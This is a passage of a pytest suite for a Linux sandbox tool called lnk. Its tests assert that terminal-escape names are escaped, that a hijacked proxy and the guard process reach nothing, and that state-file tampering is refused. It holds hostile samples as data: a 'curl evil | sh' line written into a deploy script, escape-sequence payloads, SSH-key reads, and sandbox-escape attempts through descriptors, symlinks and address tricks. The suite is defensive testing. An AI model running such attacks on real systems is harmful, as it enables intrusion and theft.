            f'write = ["{work}/{name}"]\n[internet]\nhosts = ["*"]\n')
    plant(lnk, work, f"""
        import os
        os.mkdir({SPOOF!r})
        open("app.toml", "w").write({spec!r})
    """)
    pid, fd = spawn_on_pty(lnk, ["--spec", work / "app.toml", "--", "true"])
    try:
        out = read_until(fd, b"[y/N]")
        assert b"[y/N]" in out, out
        os.write(fd, b"n\r")
        out += read_until(fd, b"\x00", timeout=10)
    finally:
        status = wait_status(pid)
        os.close(fd)
    assert status != 0
    assert b"reaches any host on the internet" in out, out
    assert b"\\u{9b}2K" in out and b"\\u{202e}" in out, out
    assert_clean(out, "the question", allow_cr=True)


def test_trust_refusal_without_terminal_is_escaped(lnk, work):
    """The spec's path (a folder a cloned repository named) in the refusal
    when there is no terminal to ask on."""
    d = os.path.join(os.fsencode(work), HOSTILE_BYTES)
    os.mkdir(d)
    with open(os.path.join(d, b"app.toml"), "w") as f:
        f.write('version = 1\n[commands]\nallow = ["true"]\n')
    cp = lnk_raw(lnk, "sandbox", "run", "--spec",
                 os.path.join(d, b"app.toml"), "--", "true",
                 input=b"")
    assert cp.returncode != 0
    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "the refusal")


def test_folder_names_are_escaped_in_every_printer(lnk, work, tmp_path):
    """A folder the program named: errors, spec (valid TOML holding the real
    path), enter --check and check's report."""
    import tomllib
    plant(lnk, work, f"""
        import os
        os.mkdir({HOSTILE!r})
        os.mkdir({HOSTILE_BYTES!r})
    """)
    good = os.path.join(os.fsencode(work), HOSTILE.encode())
    bad = os.path.join(os.fsencode(work), HOSTILE_BYTES)

    cp = lnk_raw(lnk, "sandbox", "run", "--read",
                 os.path.join(bad, b"missing"), "--", "true")
    assert cp.returncode != 0
    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "run's refusal")

    cp = lnk_raw(lnk, "sandbox", "spec", "--write", good)
    assert cp.returncode == 0, cp.stderr
    assert_clean(cp.stdout, "spec")
    spec = tomllib.loads(cp.stdout.decode())
    # spec keeps a path under the current folder relative to it
    [w] = spec["files"]["write"]
    assert os.path.join(str(lnk.cwd), w) == os.fsdecode(good), cp.stdout

    # TOML holds only UTF-8: refused, saying which path
    cp = lnk_raw(lnk, "sandbox", "spec", "--write", bad)
    assert cp.returncode != 0 and cp.stdout == b"", cp.stdout
    assert b"is not UTF-8" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "spec of a path that is no UTF-8")

    s = tmp_path / "alice.toml"
    s.write_text('version = 1\n[commands]\nallow = ["bash"]\n')
    cp = lnk_raw(lnk, "sandbox", "enter", "--spec", str(s), "--folder", bad,
                 "--check")
    assert cp.returncode == 0, cp.stderr
    assert b"\\x1b]0;pwned" in cp.stdout, cp.stdout
    assert_clean(cp.stdout + cp.stderr, "enter --check")

    cp = lnk_raw(lnk, "sandbox", "check", "--write", bad, timeout=300)
    assert b"\\x1b]0;pwned" in cp.stdout, cp.stdout
    assert_clean(cp.stdout + cp.stderr, "check's report")
    cp = lnk_raw(lnk, "sandbox", "check", "--json", "--write", bad,
                 timeout=300)
    assert_clean(cp.stdout + cp.stderr, "check --json")
    json.loads(cp.stdout)


def test_sandbox_names_are_escaped(lnk):
    """A name given to --name, pause, resume: refused, and shown escaped."""
    for args in (["run", "--name", HOSTILE_BYTES, "--", "true"],
                 ["pause", HOSTILE_BYTES], ["resume", HOSTILE_BYTES]):
        cp = lnk_raw(lnk, "sandbox", *args)
        assert cp.returncode != 0, args
        assert b"\\x1b]0;pwned" in cp.stderr, (args, cp.stderr)
        assert_clean(cp.stdout + cp.stderr, args[0])


def test_names_in_log_rows_are_escaped(lnk, work):
    """Threat: the program names hosts with escape sequences on its wire,
    and makes a dot file in a folder a cloned repository named; the notices,
    the log, its JSON, paused and traffic show them."""
    names = [HOSTILE_BYTES + b"%d.example" % i for i in range(22)]
    # The program trips its wire (20 targets refused), then waits while
    # paused and traffic show its sandbox.
    p = subprocess.Popen(
        [lnk.bin, "sandbox", "run", "--internet-host", "origin.lnk-test",
         "--", PY, "-c", textwrap.dedent(PROXY_PRELUDE) + textwrap.dedent(f"""
            import sys, time
            for n in {names!r}:
                socks(3, bytes([len(n)]) + n, 443)
                raw(3128, b"CONNECT " + n + b":443 HTTP/1.1\\r\\n\\r\\n", 1)
            print("tripped", flush=True)
            sys.stdin.read()
         """)], cwd=str(lnk.cwd), stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=lnk.env())
    try:
        assert p.stdout.readline() == b"tripped\n"
        for cmd in (["paused"], ["paused", "--json"], ["traffic"],
                    ["traffic", "--json"]):
            cp = lnk_raw(lnk, "sandbox", *cmd)
            assert cp.returncode == 0, (cmd, cp.stderr)
            assert_clean(cp.stdout + cp.stderr, " ".join(cmd))
            assert b"run-" in cp.stdout, (cmd, cp.stdout)
        assert b"tripped" in lnk_raw(lnk, "sandbox", "paused").stdout
    finally:
        out, err = p.communicate(b"", timeout=60)
    assert b"wire paused" in err, err
    assert_clean(out + err, "run (wire notices)")

    plant(lnk, work, f"import os; os.mkdir({HOSTILE!r})")
    d = os.path.join(os.fsencode(work), HOSTILE.encode())
    cp = lnk_raw(lnk, "sandbox", "run", "--write", d, "--", "/bin/sh", "-c",
                 "touch \"$1/.envrc\" 2>/dev/null", "sh", d)
    assert b"refused to create" in cp.stderr, cp.stderr
    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stdout + cp.stderr, "run (dot-file notice)")

    log = lnk_raw(lnk, "sandbox", "log", "--lines", "200")
    assert log.returncode == 0, log.stderr
    assert b"\\x1b]0;pwned" in log.stdout, log.stdout
    assert_clean(log.stdout + log.stderr, "log")
    js = lnk_raw(lnk, "sandbox", "log", "--json", "--lines", "200")
    assert_clean(js.stdout + js.stderr, "log --json")
    targets = [json.loads(l)["target"] for l in js.stdout.splitlines()]
    assert any(HOSTILE + "/.envrc" in t for t in targets), targets


def test_spec_values_and_keys_in_errors_are_escaped(lnk, work):
    """A spec's bad value or unknown key, quoted in the refusal."""
    specs = [
        '[internet]\nhosts = ["\\u001b]0;pwned\\u0007\\u009b2J\\u202e.x"]\n',
        '[files]\nwrite = ["relative\\u001b]0;pwned\\u0007\\u2066"]\n',
        '[files]\n"wr\\u001b]0;pwned\\u0007ite\\u202e" = ["/"]\n',
        '["sec\\u001b]0;pwned\\u0007\\u009b"]\nx = 1\n',
        'name = "\\u001b]0;pwned\\u0007"\n',
        '[commands]\nallow = ["/usr/bin/t\\u009b2K\\u001b]0;pwned\\u0007"]\n',
    ]
    for i, body in enumerate(specs):
        f = work / f"s{i}.toml"
        f.write_text("version = 1\n" + body)
        cp = lnk_raw(lnk, "sandbox", "run", "--spec", str(f), "--yes",
                     "--", "true")
        assert cp.returncode != 0, body
        assert (b"\\x1b]0;pwned" in cp.stderr
                or b"\\u001B]0;pwned" in cp.stderr), (body, cp.stderr)
        assert_clean(cp.stdout + cp.stderr, f"spec {body!r}")

# --- the wire's confinement ---
# The wire parses what the program sends, outside the sandbox. A test-hooks
# build (meson -Dtest_hooks=true, LNK_BIN_HOOKS) plays a wire taken over by
# the program: after confining itself it opens ~/.ssh, connects and sends
# to a loopback port of this machine, and runs /bin/sh. Each must fail.

def test_a_taken_over_wire_reaches_nothing(lnk, home):
    hooks = os.environ.get("LNK_BIN_HOOKS")
    if not hooks:
        pytest.skip("LNK_BIN_HOOKS is not set: it names an lnk built with "
                    "meson -Dtest_hooks=true, which this test needs")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("secret key\n")
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", srv.getsockname()[1]))
    udp.settimeout(0.2)
    port = srv.getsockname()[1]
    try:
        cp = subprocess.run(
            [hooks, "sandbox", "run", "--internet-host", "*", "--", "true"],
            cwd=lnk.cwd, env=lnk.env({"LNK_TEST_WIRE_ATTACK": str(port)}),
            capture_output=True, text=True, timeout=60)
        err = cp.stderr
        acts = dict(line[len("lnk-test-attack: "):].split(": ", 1)
                    for line in err.splitlines()
                    if line.startswith("lnk-test-attack: "))
        # every act was tried, and each was refused
        assert acts.get("open ssh") == "Permission denied", err
        assert acts.get("connect loopback") == "Permission denied", err
        assert acts.get("sendto loopback") == "Permission denied", err
        assert acts.get("exec") == "trying", err  # never "ran"
        assert "refused its connect to 127.0.0.1 (this machine)" in err, err
        # running a program is no call the wire may make: it was killed,
        # and the sandbox has no network (fail closed)
        assert "the wire was killed (signal 31)" in err, err
        with pytest.raises(socket.timeout):
            srv.accept()
        with pytest.raises(socket.timeout):
            udp.recvfrom(16)
    finally:
        srv.close()
        udp.close()

# --- lnk's own state and the grants' identity ---
#
# ~/.lnk holds the log, the registry whose pids `stop` signals, the accepted
# specs and the control sockets: it must be the user's alone, and `stop`
# must signal only what it proves is one of the user's sandboxes.

E2E_USER = "lnk-e2e"


def _proc_start(pid):
    data = pathlib.Path(f"/proc/{pid}/stat").read_text()
    return int(data[data.rindex(")") + 2:].split()[19])


def _other_user():
    import pwd
    try:
        return pwd.getpwnam(E2E_USER)
    except KeyError:
        pytest.skip(f"the user {E2E_USER} does not exist here")


def _settings_refused(lnk, cp, path):
    assert cp.returncode == 125, cp.stdout + cp.stderr
    assert str(path) in cp.stderr, cp.stderr


@pytest.mark.parametrize("cmd", [
    ("sandbox", "run", "--", "true"),
    ("sandbox", "stop"),
    ("sandbox", "log"),
    ("sandbox", "paused"),
])
def test_home_someone_else_can_change_is_refused(lnk, home, cmd):
    """Threat: root runs lnk with a HOME another user owns (sudo -E, a
    service's HOME=/tmp/x); that user reads the log, forges the registry
    and answers on the control sockets. As a user: a home any account can
    write."""
    if IS_ROOT:
        other = _other_user()
        os.chown(home, other.pw_uid, other.pw_gid)
        os.chmod(home, 0o755)
        what = "not to you"
    else:
        os.chmod(home, 0o777)
        what = "chmod go-w"
    cp = lnk(*cmd)
    _settings_refused(lnk, cp, home)
    assert what in cp.stderr, cp.stderr
    assert not (home / ".lnk").exists()


def test_settings_folder_that_is_a_link_is_refused(lnk, home, tmp_path):
    """Threat: ~/.lnk is a link to a folder someone else controls."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (home / ".lnk").symlink_to(elsewhere)
    for cmd in (("sandbox", "run", "--", "true"), ("sandbox", "stop"),
                ("sandbox", "traffic")):
        cp = lnk(*cmd)
        _settings_refused(lnk, cp, home / ".lnk")
        assert "symbolic link" in cp.stderr, cp.stderr
    assert list(elsewhere.iterdir()) == []


def test_settings_inside_the_folder_must_be_the_users(lnk, home):
    """Threat: a file or link inside ~/.lnk that someone else owns or can
    write (a forged registry, a spec record pointed elsewhere)."""
    lnk("sandbox", "paused", check=True)  # makes ~/.lnk/sandbox/lnk.db
    db = home / ".lnk" / "sandbox" / "lnk.db"
    os.chmod(db, 0o666)
    cp = lnk("sandbox", "stop")
    _settings_refused(lnk, cp, db)
    assert "chmod go-w" in cp.stderr
    os.chmod(db, 0o600)
    link = home / ".lnk" / "specs"
    link.symlink_to("/tmp")
    cp = lnk("sandbox", "run", "--", "true")
    _settings_refused(lnk, cp, link)
    link.unlink()
    if IS_ROOT:
        other = _other_user()
        os.chown(db, other.pw_uid, other.pw_gid)
        cp = lnk("sandbox", "paused")
        _settings_refused(lnk, cp, db)
        assert "not to you" in cp.stderr
        os.chown(db, 0, 0)
    lnk("sandbox", "paused", check=True)


def test_stop_does_not_kill_a_process_a_forged_row_names(lnk, home):
    """Threat: a registry row naming an unrelated process (forged, or a
    bug): `stop` must prove a process is one of the user's lnk sandboxes
    before it signals it."""
    lnk("sandbox", "paused", check=True)  # creates the registry
    victim = subprocess.Popen(["sleep", "60"])
    try:
        start = _proc_start(victim.pid)
        import sqlite3
        db = sqlite3.connect(str(home / ".lnk" / "sandbox" / "lnk.db"),
                             timeout=5)
        db.execute(
            "INSERT INTO ctl_sandboxes (name, uid, sup_pid, sup_start, "
            "box_pid, box_start, wire_pid, wire_start, socket, "
            "started_ms) VALUES (?,?,?,?,?,?,?,?,?,?)",
            ("forged", os.getuid(), victim.pid, start, victim.pid, start,
             victim.pid, start, "", int(time.time() * 1000)))
        db.commit()
        db.close()
        cp = lnk("sandbox", "stop", timeout=30)
        time.sleep(0.5)
        assert victim.poll() is None, cp.stdout + cp.stderr
        assert "does not run lnk" in cp.stderr, cp.stderr
        assert cp.returncode == 125
    finally:
        victim.kill()
        victim.wait()
        lnk("sandbox", "stop", "--off")


def test_control_client_refuses_a_socket_another_user_serves(lnk, home):
    """Threat: a socket in the run folder served by another account
    answers `pause` with a fake OK while the wire stays open."""
    if not IS_ROOT:
        pytest.skip("a second uid serving a socket needs root")
    other = _other_user()
    lnk("sandbox", "paused", check=True)
    run = home / ".lnk" / "sandbox" / "run"
    run.mkdir(mode=0o700, exist_ok=True)
    path = run / "liar.sock"
    # Bound by root in root's folder, then listening as the other user:
    # SO_PEERCRED names the uid that called listen().
    code = textwrap.dedent(f"""
        import os, socket, struct, time
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind({str(path)!r})
        os.setresgid({other.pw_gid}, {other.pw_gid}, {other.pw_gid})
        os.setresuid({other.pw_uid}, {other.pw_uid}, {other.pw_uid})
        s.listen(4)
        print("ready", flush=True)
        while True:
            c, _ = s.accept()
            b = c.recv(8)
            rep = struct.pack("<4sBBBBBBBBIqQQ88s", b"LNKr", 1, b[5], 0,
                              1, 1, 0, 0, 0, 0, int(time.time() * 1000),
                              0, 0, b"")
            c.sendall(rep)
            c.close()
    """)
    liar = subprocess.Popen([PY, "-c", code], stdout=subprocess.PIPE,
                            text=True)
    try:
        assert liar.stdout.readline().strip() == "ready"
        import sqlite3
        db = sqlite3.connect(str(home / ".lnk" / "sandbox" / "lnk.db"),
                             timeout=5)
        db.execute(
            "INSERT INTO ctl_sandboxes (name, uid, sup_pid, sup_start, "
            "wire_pid, wire_start, socket, started_ms) "
            "VALUES (?,?,?,?,?,?,?,?)",
            ("liar", 0, liar.pid, _proc_start(liar.pid), liar.pid,
             _proc_start(liar.pid), str(path), int(time.time() * 1000)))
        db.commit()
        db.close()
        cp = lnk("sandbox", "pause", "liar")
        assert cp.returncode == 125, cp.stdout + cp.stderr
        assert "paused liar" not in cp.stdout
        assert "not by you" in cp.stderr, cp.stderr
    finally:
        liar.kill()
        liar.wait()


def _agents(home):
    agents = home / "Link" / "Agents"
    (agents / "a1").mkdir(parents=True)
    (agents / "a1" / "secret").write_text("agent-secret\n")
    (home / "Link" / "History").mkdir()
    return agents


def _moved_away(lnk, home):
    """A sandbox with --write ~ moves the folder that holds the agents'
    folder and leaves a decoy. Where the guard refuses that rename, it is
    done here, as a sandbox of an older lnk could have."""
    sh(lnk, "mv ~/Link ~/Link.moved; mkdir -p ~/Link/Agents ~/Link/History",
       "--write", home)
    if not (home / "Link.moved").exists():
        (home / "Link").rename(home / "Link.moved")
        (home / "Link" / "Agents").mkdir(parents=True)
        (home / "Link" / "History").mkdir()


@pytest.mark.parametrize("how", ["moved", "gone", "link"])
def test_moved_agents_folder_is_never_shown(lnk, home, how):
    """Threat: the agents' folder is hidden by path; once moved or swapped
    for a link, later sandboxes hide a decoy and show the real one."""
    _agents(home)
    lnk.run("--read", home, "--", "true", check=True)  # lnk sees them
    if how == "moved":
        _moved_away(lnk, home)
    elif how == "gone":
        (home / "Link").rename(home / "Link.moved")
    else:
        (home / "Link").rename(home / "Link.moved")
        (home / "Link").mkdir()
        (home / "Link" / "Agents").symlink_to(home / "Link.moved" / "Agents")
        (home / "Link" / "History").mkdir()
    cp = sh(lnk, "cat ~/Link.moved/Agents/a1/secret ~/Link/Agents/a1/secret",
            "--read", home)
    assert "agent-secret" not in cp.stdout, cp.stdout
    assert cp.returncode == 125, cp.stdout + cp.stderr
    assert str(home / "Link" / "Agents") in cp.stderr, cp.stderr
    # Put back, it runs again.
    if how == "link":
        (home / "Link" / "Agents").unlink()
        (home / "Link" / "History").rmdir()
        (home / "Link").rmdir()
    elif how == "moved":
        shutil.rmtree(home / "Link")
    (home / "Link.moved").rename(home / "Link")
    cp = sh(lnk, "ls ~/Link/Agents | wc -l", "--read", home)
    assert cp.returncode == 0, cp.stderr
    assert cp.stdout.strip() == "0"


@pytest.mark.parametrize("flag,name,target", [
    ("--write", "build", "~"),
    ("--read", "docs", "~/.ssh"),
    ("--write", "conf", "/etc"),
    ("--read", "conf", "/etc"),
])
def test_grant_through_a_link_the_sandbox_left_is_refused(lnk, home, work,
                                                          flag, name,
                                                          target):
    """Threat: run 1 (--write PROJ) replaces PROJ/build by a link to the
    home folder (~/bin is on PATH), or PROJ/docs by one to ~/.ssh, or, as
    root, PROJ/conf by one to /etc; run 2, given only that subfolder,
    would write or read where the link points."""
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("ssh-secret\n")
    (work / name).mkdir()
    real = target.replace("~", str(home))
    cp = sh(lnk, f"rm -rf {name} && ln -s {real} {name}", "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert (work / name).is_symlink()
    cp = sh(lnk, "mkdir -p bin; echo pwned > bin/t4-sneaky; "
                 "cat id_ed25519 2>/dev/null; true",
            flag, f"./{name}", cwd=work)
    assert cp.returncode != 0, cp.stdout + cp.stderr
    assert "ssh-secret" not in cp.stdout
    assert not (home / "bin" / "t4-sneaky").exists()
    assert f"'{os.path.realpath(real)}'" in cp.stderr, cp.stderr
    if flag == "--write" and target == "/etc":
        assert "system folder" in cp.stderr, cp.stderr
    else:
        assert "symbolic link" in cp.stderr, cp.stderr
        assert "grant that path" in cp.stderr


def test_etc_is_never_a_write_grant(lnk):
    """Threat: a sandbox run as root with --write /etc (or a folder in it)
    changes what root's programs run and trust."""
    for d in ("/etc", "/etc/default"):
        cp = lnk.run("--write", d, "--", "true")
        assert cp.returncode != 0, cp.stdout + cp.stderr
        assert "system folder" in cp.stderr, cp.stderr
    lnk.run("--read", "/etc", "--", "true", check=True)


# --- the grammar of hosts, addresses, ports and names ---

# A spec someone else wrote names what no grant reaches in a spelling a
# second parser might read differently: the spec refuses it before
# anything starts, in the words the wire uses when it refuses a call.
HOSTILE_GRANTS = [
    ("internet", '"1.0x7f"', "ambiguous address literal"),
    ("internet", '"0x7f.1"', "ambiguous address literal"),
    ("internet", '"[::ffff:127.0.0.1]"', "loopback address"),
    ("internet", '"2002:a9fe:a9fe::1"', "cloud metadata address"),
    ("lan", '"::ffff:169.254.169.254"', "cloud metadata address"),
    ("lan", '"[64:ff9b::a9fe:a9fe]:80"', "cloud metadata address"),
    ("lan", '"2002:a9fe:a9fe::/48"', "cloud metadata address"),
    ("lan", '"100.100.100.200:80"', "cloud metadata address"),
    ("lan", '"::ffff:127.0.0.0/104"', "loopback address"),
    ("lan", '"127.0.0.1."', "loopback address"),
    ("lan", '"10.1"', "ambiguous address literal"),
]


@pytest.mark.parametrize("section,value,words", HOSTILE_GRANTS)
def test_a_spec_cannot_grant_what_the_wire_never_reaches(lnk, work, section,
                                                         value, words):
    (work / "hostile.toml").write_text(
        f"version = 1\n[{section}]\nhosts = [{value}]\n"
        '[commands]\nallow = ["true"]\n')
    cp = lnk.run("--spec", "hostile.toml", "--", "true")
    assert cp.returncode == 2, (value, cp.stdout, cp.stderr)
    assert words in cp.stderr, (value, cp.stderr)

# --- the guard's descriptors and addresses ---
#
# The guard opens, links, renames and binds for the program. Whatever path
# or descriptor names the object, it must never give more than the
# program's descriptor already gives (its access mode), nor reach anything
# beneath a descriptor that the sandbox's grants do not hold: an inherited
# stdin, stdout or folder is the host's, outside every grant.

FD_VIAS = ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0",
           "/proc/thread-self/fd/0"]


def test_host_stdin_not_writable_through_reopen(lnk, work, tmp_path):
    """Threat: `./prog < deploy.sh`: open("/dev/stdin", O_WRONLY|O_CREAT)
    reopened for writing by the guard, and the program rewrites the
    user's deploy.sh, which the user runs next."""
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("echo deploying\n")
    with open(deploy, "rb") as stdin:
        cp = py(lnk, f"""
            import os
            for via in {FD_VIAS!r}:
                for fl in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT,
                           os.O_WRONLY | os.O_CREAT | os.O_TRUNC,
                           os.O_RDONLY | os.O_CREAT | os.O_TRUNC,
                           os.O_WRONLY | os.O_CREAT | os.O_APPEND):
                    try:
                        fd = os.open(via, fl, 0o644)
                    except OSError as e:
                        print("refused", via, fl, e.errno); continue
                    try:
                        os.write(fd, b"curl evil | sh\\n"); print("WROTE", via)
                    except OSError as e:
                        print("opened", via, fl, e.errno)
            # reading it again stays possible: no more than the fd has
            fd = os.open("/dev/stdin", os.O_RDONLY | os.O_CREAT)
            print("read", os.read(fd, 100))
        """, "--write", work, stdin=stdin)
    assert deploy.read_text() == "echo deploying\n", cp.stdout + cp.stderr
    assert "WROTE" not in cp.stdout, cp.stdout
    assert cp.stdout.count("refused") == 20, cp.stdout + cp.stderr
    assert "read b'echo deploying\\n'" in cp.stdout, cp.stdout + cp.stderr


def test_host_stdout_not_readable_through_reopen(lnk, work, tmp_path):
    """Threat: `./prog >> app.log`: open("/dev/stdout", O_RDWR|O_CREAT)
    reads back what other programs wrote to the host's log."""
    log = tmp_path / "app.log"
    log.write_text("password=hunter2\n")
    # lnk's own stdout is the test's pipe: the log reaches the program as
    # its stdin, which a shell inside makes its stdout
    with open(log, "ab") as out:
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     'exec "$0" -c "$1" 1>&0 0</dev/null', PY,
                     textwrap.dedent("""
            import os, sys
            for via in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
                for fl in (os.O_RDWR | os.O_CREAT, os.O_RDONLY | os.O_CREAT):
                    try:
                        fd = os.open(via, fl)
                        os.lseek(fd, 0, 0)
                        sys.stderr.write("READ %r\\n" % os.read(fd, 100))
                    except OSError as e:
                        sys.stderr.write("refused %d\\n" % e.errno)
            # writing, as the descriptor allows, still works
            fd = os.open("/dev/stdout", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
            os.write(fd, b"appended\\n")
        """), stdin=out, timeout=60)
    assert "hunter2" not in cp.stderr, cp.stderr
    assert "READ" not in cp.stderr, cp.stderr
    assert cp.stderr.count("refused") == 6, cp.stderr
    assert log.read_text() == "password=hunter2\nappended\n"


HOST_DIR_ATTACKS = {
    "create-dev-stdin": 'os.close(os.open("/dev/stdin/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dev-fd": 'os.close(os.open("/dev/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-proc-fd": 'os.close(os.open("/proc/self/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dirfd": 'os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=0))',
    "create-fchdir": 'os.fchdir(0); os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dotdot-beneath": 'os.close(os.open("/dev/fd/0/sub/../f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "read-existing-creat": 'print("READ", os.read(os.open("/dev/fd/0/secret", os.O_RDONLY | os.O_CREAT), 100))',
    "write-existing-creat": 'os.write(os.open("/dev/fd/0/secret", os.O_WRONLY | os.O_CREAT), b"x")',
    "mkdir-git": 'os.mkdir("/dev/fd/0/.git")',
    "mkdir-sub": 'os.mkdir("/dev/stdin/newdir")',
    "mkdir-dirfd": 'os.mkdir("newdir", dir_fd=0)',
    "mkfifo": 'os.mkfifo("/dev/fd/0/fifo")',
    "symlink": 'os.symlink("/etc/passwd", "/dev/fd/0/l")',
    "link-in": 'open("t", "w").close(); os.link("t", "/dev/fd/0/l")',
    "link-out": 'os.link("/dev/fd/0/secret", "stolen")',
    "link-out-follow": 'os.link("/proc/self/fd/0/secret", "stolen", follow_symlinks=True)',
    "rename-in": 'open("t", "w").close(); os.rename("t", "/dev/fd/0/moved")',
    "rename-out": 'os.rename("/dev/fd/0/secret", "stolen")',
    "rename-within": 'os.rename("/dev/fd/0/secret", "/dev/fd/0/secret2")',
    "bind-unix": 'socket.socket(socket.AF_UNIX).bind("/dev/fd/0/sock")',
}


@pytest.mark.parametrize("way", sorted(HOST_DIR_ATTACKS))
def test_host_folder_descriptor_not_written(lnk, work, tmp_path, way):
    """Threat: a host folder given as a descriptor (fd 0 here; a shell
    cannot `< dir`, a program that starts lnk can): the guard creates,
    links, renames or binds beneath it, or opens what is in it, though no
    grant holds it (`mkdir /dev/fd/0/.git` in the host's folder)."""
    host = tmp_path / "hostdir"
    host.mkdir()
    (host / "sub").mkdir()
    (host / "secret").write_text("s3cret\n")
    before = sorted(p.name for p in host.rglob("*"))
    dfd = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
    # Python will not start with a folder as its stdin: a shell inside
    # moves it to fd 3, and the program puts it back on 0.
    code = textwrap.dedent(f"""
        import os, socket
        os.dup2(3, 0)
        try:
            {HOST_DIR_ATTACKS[way]}
            print("DONE")
        except OSError as e:
            print("refused", e.errno)
    """)
    try:
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     'exec "$0" -c "$1" 3<&0 0</dev/null', PY, code,
                     stdin=dfd, timeout=60)
    finally:
        os.close(dfd)
    assert sorted(p.name for p in host.rglob("*")) == before, cp.stdout
    assert (host / "secret").read_text() == "s3cret\n"
    assert "s3cret" not in cp.stdout, cp.stdout
    assert not (work / "stolen").exists()
    assert "refused" in cp.stdout, cp.stdout + cp.stderr


BIND_LOW = {
    # sockaddr_in6 without sin6_scope_id: the kernel takes 24 bytes
    "in6-24": "fam, size = socket.AF_INET6, 24",
    "in6-28": "fam, size = socket.AF_INET6, 28",
    # inet_bind takes AF_UNSPEC as AF_INET when the address is 0.0.0.0
    "in4-unspec": "fam, size = socket.AF_INET, 16; fld = 0",
    "in4-16": "fam, size = socket.AF_INET, 16",
    # a family field that says AF_UNIX on an inet socket
    "in6-unix-field": "fam, size = socket.AF_INET6, 28; fld = 1",
}


@pytest.mark.parametrize("form", sorted(BIND_LOW))
def test_bind_low_port_refused_in_every_address_form(lnk, work, form):
    """Threat: the guard binds with CAP_NET_BIND_SERVICE in the sandbox's
    network namespace; an address form its port check does not read (24
    bytes of AF_INET6, AF_UNSPEC) binds port 80 through it."""
    cp = py(lnk, f"""
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fld = None
        {BIND_LOW[form]}
        s = socket.socket(fam, socket.SOCK_STREAM)
        fld = fam if fld is None else fld
        b = struct.pack("=H", fld) + struct.pack("!H", 80)
        if fam == socket.AF_INET6:
            b += b"\\0" * 4 + socket.inet_pton(socket.AF_INET6, "::1")
        else:
            b += socket.inet_aton("0.0.0.0")
        b = (b + b"\\0" * 32)[:size]
        r = libc.bind(s.fileno(), ctypes.c_char_p(b), size)
        e = ctypes.get_errno()
        print("BOUND" if r == 0 else "refused %d" % e, s.getsockname())
    """, "--write", work)
    assert "refused" in cp.stdout, cp.stdout + cp.stderr
    assert "BOUND" not in cp.stdout, cp.stdout


def test_bind_unix_address_longer_than_sockaddr_un(lnk, work):
    """Threat: an AF_UNIX address of 111 to 128 bytes (sockaddr_storage)
    copied into the guard's 109-byte path buffer: a write past it in the
    supervisor. The kernel refuses such a length (EINVAL); so must the
    guard, and the sandbox keeps working."""
    cp = py(lnk, """
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        for size in (110, 111, 120, 128):
            s = socket.socket(socket.AF_UNIX)
            b = (b"\\x01\\x00" + b"A" * 200)[:size]
            r = libc.bind(s.fileno(), ctypes.c_char_p(b), size)
            print(size, "bound" if r == 0 else ctypes.get_errno())
        open("after", "w").close(); print("after", os.path.exists("after"))
    """, "--write", work)
    assert cp.returncode == 0, cp.stdout + cp.stderr
    assert "111 22" in cp.stdout and "128 22" in cp.stdout, cp.stdout
    assert "after True" in cp.stdout, cp.stdout


def test_bind_other_socket_families_not_performed(lnk, work):
    """Threat: the guard binds a netlink socket to multicast groups that
    need CAP_NET_ADMIN, which it holds over the sandbox's namespaces."""
    cp = py(lnk, """
        import socket
        for proto, groups in ((0, 1 << 29), (16, 1), (6, 1)):
            try:
                s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
            except OSError as e:
                print("nosock", proto, e.errno); continue
            try:
                s.bind((0, groups)); print("BOUND", proto)
            except OSError as e:
                print("refused", proto, e.errno)
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        s.bind((0, 1)); print("route link group", s.getsockname())
    """, "--write", work)
    assert "BOUND" not in cp.stdout, cp.stdout + cp.stderr
    assert "route link group" in cp.stdout, cp.stdout + cp.stderr


def test_casefold_cannot_be_set_inside(lnk, work):
    """Threat: chattr +F (FS_IOC_SETFLAGS with FS_CASEFOLD_FL) on the
    empty top of a write folder, then ".vſcode", which a casefolding
    file system takes for the .vscode a host editor opens."""
    cp = py(lnk, """
        import fcntl, os, struct
        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        for cmd in (0x40086602, 0x40046602, 0x140086602):
            try:
                fcntl.ioctl(fd, cmd, struct.pack("l", 0x40000000))
                print("SET", hex(cmd))
            except OSError as e:
                print("refused", e.errno)
    """, "--write", work)
    assert "SET" not in cp.stdout, cp.stdout + cp.stderr
    assert cp.stdout.count("refused 1") == 3, cp.stdout + cp.stderr


CONNECT_WAYS = {
    "path": 'c(P)',
    "relative": 'os.chdir(os.path.dirname(P)); c(os.path.basename(P))',
